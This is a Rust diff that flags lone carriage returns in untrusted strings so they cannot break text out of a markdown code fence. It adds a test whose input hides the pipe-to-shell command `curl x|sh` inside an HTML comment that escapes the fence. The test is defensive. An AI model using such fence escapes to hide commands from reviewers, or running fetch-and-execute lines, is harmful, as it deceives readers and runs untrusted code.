@@ -538,7 +538,12 @@ fn strings(problem: &mut impl FnMut(String, &str), at: &str, values: &[String]) 
 fn invisible_characters(problem: &mut impl FnMut(String, &str), at: &str, value: &Value) {
     match value {
         Value::String(s) => {
-            if let Some(c) = s.chars().find(|c| untrusted::is_invisible(*c)) {
+            // A lone carriage return ends a line where forges render markdown but not
+            // where the text is split for display, so it could carry a line out of its fence.
+            if let Some(c) = s
+                .chars()
+                .find(|c| untrusted::is_invisible(*c) || *c == '\r')
+            {
                 problem(
                     at.to_owned(),
                     &format!(
@@ -1221,6 +1226,22 @@ mod tests {
     }
 
     #[test]
+    fn a_lone_carriage_return_cannot_carry_text_out_of_a_fence() {
+        // CommonMark (and so GitHub and GitLab) ends a line at a lone `\r` too: a line
+        // of the fence without its indentation would close the list item and the fence,
+        // and `<!--` would then hide `curl x|sh` from the reader.
+        let text = "true\n: \r<!--\r; curl x|sh #-->\r-";
+        let md = crate::markdown::fenced(text, "  ");
+        for line in md.split(['\n', '\r']).filter(|l| !l.is_empty()) {
+            assert!(
+                line.starts_with("  "),
+                "{line:?} leaves the fence in {md:?}"
+            );
+        }
+        assert!(md.contains("  ; curl x|sh #-->\n"), "{md:?}");
+    }
+
+    #[test]
     fn commands_and_paths_show_exactly_what_runs() {
         let mut v = sample_json();
         v["verification"]["commands"] = serde_json::json!([
@@ -1276,6 +1297,7 @@ mod tests {
             '\u{E0100}',
             '\u{061C}',
             '\u{00AD}',
+            '\r',
         ] {
             let mut v = sample_json();
             v["change"]["files"][1]["path"] = format!("tests/{c}parse.rs").into();
